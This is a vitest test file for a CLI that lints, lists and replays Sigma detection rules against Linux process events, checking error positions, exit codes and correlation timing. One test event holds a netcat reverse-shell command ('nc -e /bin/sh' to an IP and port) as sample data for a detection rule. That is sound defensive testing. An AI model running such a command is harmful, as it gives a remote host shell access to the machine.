/**
 * `vigil rules lint|test|list`, run as the real CLI (node bin/vigil after tsc).
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';

const repo = fileURLToPath(new URL('../../', import.meta.url));
const RULES = join(repo, 'test/fixtures/sigma/rules/linux');
const cases: { rule_id: string; positive: object; negative: object }[] = JSON.parse(
  readFileSync(new URL('./fixtures/sigmahq-linux-cases.json', import.meta.url), 'utf8'),
).cases;

function vigil(args: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [join(repo, 'bin/vigil'), ...args], { encoding: 'utf8', timeout: 60_000 });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

let dir: string;
beforeAll(() => {
  // build dist/ (tsc emits even when unrelated files have type errors: the status is not checked here)
  spawnSync(process.execPath, [join(repo, 'node_modules/typescript/bin/tsc'), '-p', join(repo, 'tsconfig.json')], { stdio: 'ignore', timeout: 120_000 });
  dir = mkdtempSync(join(tmpdir(), 'vigil-rules-cli-'));
}, 180_000);

describe('vigil rules lint', () => {
  it('exits 0 on the SigmaHQ linux rules', () => {
    const r = vigil(['rules', 'lint', RULES]);
    expect(r.stderr).toMatch(/210 file\(s\), 210 rule\(s\): 135 active, 75 inactive/);
    expect(r.code).toBe(0);
  });

  it('reports per-file errors with file:line:col and exits 1', () => {
    const bad = join(dir, 'bad');
    mkdirSync(bad);
    writeFileSync(join(bad, 'a_bad.yml'), 'title: t\nid: a\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image|endwith: x\n  condition: sel\n');
    writeFileSync(join(bad, 'b_bad.yml'), 'title: t\nid: b\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel and nope\n');
    writeFileSync(join(bad, 'c_good.yml'), 'title: t\nid: c\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel\n');
    const r = vigil(['rules', 'lint', bad]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`${join(bad, 'a_bad.yml')}:8:5: error: field 'Image|endwith': unknown modifier 'endwith'`);
    expect(r.stdout).toContain(`${join(bad, 'b_bad.yml')}:9:22: error: condition: unknown detection identifier 'nope'`);
    const j = vigil(['rules', 'lint', '--json', bad]);
    expect(j.code).toBe(1);
    const o = JSON.parse(j.stdout);
    expect(o.ok).toBe(false);
    expect(o.errors).toHaveLength(2);
    expect(o.active).toBe(1);
  });

  it('exits 2 on usage errors', () => {
    expect(vigil(['rules', 'lint']).code).toBe(2);
    expect(vigil(['rules', 'test', '--rules', RULES]).code).toBe(2);
    expect(vigil(['rules', 'lint', '--help']).code).toBe(0);
  });
});

describe('vigil rules test', () => {
  it('replays events: one JSON object per match with event_index', () => {
    const lines: string[] = [];
    const expected: [number, string][] = [];
    for (const c of cases.slice(0, 40)) {
      expected.push([lines.length + 1, c.rule_id]); // event_index is the line number, from 1
      lines.push(JSON.stringify(c.positive));
      lines.push(JSON.stringify(c.negative));
    }
    lines.splice(3, 0, ''); // blank lines are skipped but still counted
    for (const e of expected) if (e[0] >= 4) e[0]++; // the blank line is line 4
    const file = join(dir, 'events.jsonl');
    writeFileSync(file, lines.join('\n') + '\n');
    const r = vigil(['rules', 'test', '--rules', RULES, '--events', file, '--json']);
    expect(r.code).toBe(0);
    const matches = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    for (const m of matches) {
      expect(typeof m.rule_id).toBe('string');
      expect(typeof m.rule_title).toBe('string');
      expect(typeof m.level).toBe('string');
      expect(Number.isInteger(m.event_index)).toBe(true);
    }
    for (const [idx, id] of expected) expect(matches.some((m) => m.event_index === idx && m.rule_id === id), `${id} at ${idx}`).toBe(true);
    expect(r.stderr).toMatch(/80 event\(s\) replayed, \d+ alert\(s\)/);
  });

  it('reports unreadable event lines and exits 1', () => {
    const file = join(dir, 'broken.jsonl');
    writeFileSync(file, '{"category":"process_creation","Image":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 1.2.3.4 4444"}\nnot json\n');
    const r = vigil(['rules', 'test', '--rules', RULES, '--events', file]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('broken.jsonl:2: invalid JSON');
    expect(r.stdout).toMatch(/event 1: \[high\] .*Netcat/i);
  });
});

describe('vigil rules list', () => {
  it('lists active rules, and inactive ones on request', () => {
    const r = vigil(['rules', 'list', '--rules', RULES, '--json']);
    expect(r.code).toBe(0);
    const rows = JSON.parse(r.stdout);
    expect(rows).toHaveLength(135);
    const all = JSON.parse(vigil(['rules', 'list', '--rules', RULES, '--json', '--inactive']).stdout);
    expect(all).toHaveLength(210);
    expect(all.find((x: { active: boolean }) => !x.active).reason).toMatch(/no vigil event source/);
    const human = vigil(['rules', 'list', '--rules', RULES]);
    expect(human.stdout).toMatch(/high\s+process_creation\s+\S+\s+Linux Webshell Indicators/);
  });
});

const rule = (id: string, body: string): string =>
  `title: rule ${id}\nid: ${id}\nlevel: high\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n${body}`;

describe('vigil rules lint: every error, at its place, files counted (issue 9, item 11)', () => {
  it('shows every error of a rule, each at its own line:col', () => {
    const d = join(dir, 'many-errors');
    mkdirSync(d);
    const f = join(d, 'r.yml');
    writeFileSync(
      f,
      rule(
        'r',
        "    sel:\n        Image|endwith: /nc\n        CommandLine|re: 'a(?i)b'\n    other:\n        User|cidr: nope\n    condition: sel and other and missing and 1 of nothing_*\n",
      ),
    );
    const r = vigil(['rules', 'lint', d]);
    expect(r.code).toBe(1);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toEqual([
      `${f}:9:9: error: field 'Image|endwith': unknown modifier 'endwith'`,
      `${f}:10:25: error: field 'CommandLine|re': inline regex flags inside the pattern (e.g. '(?i)' after the start) are not supported in JavaScript; move them to the start or use the |re|i sub-modifier`,
      `${f}:12:20: error: field 'User|cidr': invalid CIDR 'nope' (not an IPv4 or IPv6 network)`,
      `${f}:13:34: error: condition: unknown detection identifier 'missing' (defined: sel, other)`,
      `${f}:13:51: error: condition: 'nothing_*' matches no detection identifier`,
    ]);
    expect(r.stderr).toMatch(/1 file\(s\) with errors \(5 error\(s\)\)/);
  });

  it('counts refused files, not errors, and puts warnings and cross-rule errors where they are', () => {
    const d = join(dir, 'positions');
    mkdirSync(d);
    writeFileSync(join(d, 'a.yml'), rule('dup', "    sel:\n        Image: /a\n        Nonsense: x\n    condition: sel\n"));
    writeFileSync(join(d, 'b.yml'), rule('dup', "    sel:\n        Image: /b\n    condition: sel\n"));
    writeFileSync(
      join(d, 'c.yml'),
      'title: corr\nid: corr\ncorrelation:\n    type: event_count\n    rules:\n        - dup\n        - ghost\n    timespan: 1m\n    condition:\n        gte: 2\n',
    );
    writeFileSync(join(d, 'd.yml'), rule('two', "    sel:\n        Image|endwith: x\n        User|gt: y\n    condition: sel\n"));
    const r = vigil(['rules', 'lint', d]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`${join(d, 'b.yml')}:2:5: error: duplicate rule id 'dup' (also in ${join(d, 'a.yml')}:2:5); this copy is ignored`);
    expect(r.stdout).toContain(`${join(d, 'c.yml')}:7:11: error: correlation: refers to rule 'ghost', which is not loaded`);
    expect(r.stdout).toContain(`${join(d, 'a.yml')}:10:9: warning: field 'Nonsense' is not in vigil's process_creation events`);
    expect(r.stdout).not.toMatch(/:1:1: /);
    // 5 errors in 3 files: b (duplicate), c (correlation), d (two)
    expect(r.stderr).toMatch(/3 file\(s\) with errors \(4 error\(s\)\)/);
    const j = JSON.parse(vigil(['rules', 'lint', '--json', d]).stdout);
    expect(j.files_with_errors).toBe(3);
    expect(j.errors).toHaveLength(4);
  });
});

describe('missing paths are errors, never an empty rule set (issue 9, item 6)', () => {
  it('rules lint / test / list with a path that does not exist exit 4 and name it', () => {
    const missing = join(dir, 'no-such-dir');
    const lint = vigil(['rules', 'lint', missing]);
    expect(lint.code).toBe(4);
    expect(lint.stderr).toContain(`PATH ${missing}: no such file or directory`);
    expect(lint.stderr).toContain('[input.not_found]');
    const ev = join(dir, 'one.jsonl');
    writeFileSync(ev, '{"category":"process_creation","Image":"/bin/true"}\n');
    const test = vigil(['rules', 'test', '--rules', missing, '--events', ev]);
    expect(test.code).toBe(4);
    expect(test.stderr).toContain(`--rules ${missing}: no such file or directory`);
    const noEvents = vigil(['rules', 'test', '--rules', RULES, '--events', join(dir, 'no-such.jsonl')]);
    expect(noEvents.code).toBe(4);
    expect(noEvents.stderr).toContain('no-such.jsonl');
    const list = vigil(['rules', 'list', '--rules', missing]);
    expect(list.code).toBe(4);
  });

  it('vigil run --rules DIR with a DIR that does not exist refuses to start', () => {
    const missing = join(dir, 'no-such-rules');
    const r = spawnSync(process.execPath, [join(repo, 'bin/vigil'), 'run', '--no-db', '--rules', missing], { encoding: 'utf8', timeout: 30_000 });
    expect(r.status).toBe(4);
    expect(r.stderr).toContain(`--rules ${missing}: no such file or directory`);
  });
});

describe('vigil rules test: line numbers and timestamps (issue 9, item 11)', () => {
  it('event_index and bad lines both count lines from 1; an event a correlation needs without a timestamp is an error', () => {
    const d = join(dir, 'corr');
    mkdirSync(d);
    writeFileSync(join(d, 'r.yml'), rule('nc', "    sel:\n        Image|endswith: /nc\n    condition: sel\n"));
    writeFileSync(
      join(d, 'c.yml'),
      'title: two nc\nid: two-nc\ncorrelation:\n    type: event_count\n    rules: [nc]\n    group-by: [User]\n    timespan: 1m\n    condition:\n        gte: 2\ngenerate: true\n',
    );
    const ev = (ts?: string): string => JSON.stringify({ category: 'process_creation', Image: '/bin/nc', User: 'u', ...(ts ? { timestamp: ts } : {}) });
    const file = join(d, 'ev.jsonl');
    writeFileSync(file, [ev('2026-11-02T10:00:00Z'), 'garbage', ev(), ev('2026-11-02T10:00:05Z')].join('\n') + '\n');
    const r = vigil(['rules', 'test', '--rules', d, '--events', file, '--json']);
    const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { rule_id: string; event_index: number; untimed?: boolean });
    expect(out.map((o) => [o.rule_id, o.event_index])).toEqual([
      ['nc', 1],
      ['nc', 3],
      ['nc', 4],
      ['two-nc', 4],
    ]);
    expect(out[1]!.untimed).toBe(true);
    expect(r.stderr).toContain(`${file}:2: invalid JSON`);
    expect(r.stderr).toContain(`${file}:3: event has no valid timestamp; not counted by correlation(s) two-nc`);
    expect(r.code).toBe(1);
    // with "now" for the untimed event, the correlation fired on line 3 (two events within a minute)
    expect(out.some((o) => o.rule_id === 'two-nc' && o.event_index === 3)).toBe(false);
  });
});
